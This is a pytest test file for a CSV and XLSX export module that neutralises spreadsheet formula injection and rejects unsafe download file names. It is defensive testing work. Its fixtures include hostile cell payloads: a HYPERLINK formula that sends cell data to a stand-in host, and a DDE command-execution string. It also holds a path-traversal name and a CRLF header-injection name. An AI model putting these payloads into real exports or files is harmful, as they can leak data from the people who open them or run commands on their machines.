"""CSV injection: every cell a spreadsheet would evaluate is written as text, in CSV and in XLSX."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest

from equiptrain import csvsafe

HOSTILE = [
    '=HYPERLINK("http://evil.example?"&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
HARMLESS = ["Ward 4", "Jo O'Neill", "", "a=b", " =not at start? still text", "café", "50%"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_cell_is_written_as_text(value):
    assert csvsafe.is_dangerous(value)
    assert csvsafe.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS + [None, 3, -3, 2.5, dt.date(2026, 1, 2), True])
def test_other_cells_are_left_alone(value):
    assert csvsafe.neutralise(value) == value


def test_the_writer_round_trips_every_cell_as_text():
    out = io.StringIO()
    w = csvsafe.writer(out)
    w.writerow(["name", "note"])
    w.writerows([[v, v] for v in HOSTILE + HARMLESS])
    back = list(csv.reader(io.StringIO(out.getvalue())))
    assert back[0] == ["name", "note"]
    assert [row[0] for row in back[1:]] == ["'" + v for v in HOSTILE] + HARMLESS
    assert not any(cell.startswith(csvsafe.DANGEROUS_PREFIXES) for row in back for cell in row)


def test_a_download_is_streamed_with_a_bom_and_parses_back(app):
    rows = ([f"Person {n}", "=1+1" if n % 2 else n] for n in range(5000))
    with app.test_request_context():
        response = csvsafe.csv_response("people.csv", ["Name", "Value"], rows)
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="people.csv"'
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    back = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert back[0] == ["Name", "Value"] and len(back) == 5001
    assert back[2] == ["Person 1", "'=1+1"] and back[3] == ["Person 2", "2"]


@pytest.mark.parametrize("name", ["x.txt", 'a".csv', "../x.csv", "a\r\nSet-Cookie: x.csv"])
def test_a_download_refuses_an_unsafe_file_name(app, name):
    with app.test_request_context(), pytest.raises(ValueError):
        csvsafe.csv_response(name, None, [])


def test_xlsx_cells_are_text_not_formulas():
    book = openpyxl.Workbook()
    sheet = book.active
    csvsafe.xlsx_append(sheet, ["Name", "Note", "Hours"])
    for value in HOSTILE:
        csvsafe.xlsx_append(sheet, [value, "ok", -1.5])
    data = io.BytesIO()
    book.save(data)
    data.seek(0)
    back = openpyxl.load_workbook(data).active
    cells = [[c.value for c in row] for row in back.iter_rows(min_row=2)]
    # (older openpyxl turned a carriage return into a line feed on the way through XML, newer keeps it; what
    # matters is the apostrophe in front)
    assert [row[0].replace("\r", "\n") for row in cells] == ["'" + v.replace("\r", "\n") for v in HOSTILE]
    assert all(c.data_type != "f" for row in back.iter_rows() for c in row)
    assert {row[2] for row in cells} == {-1.5}
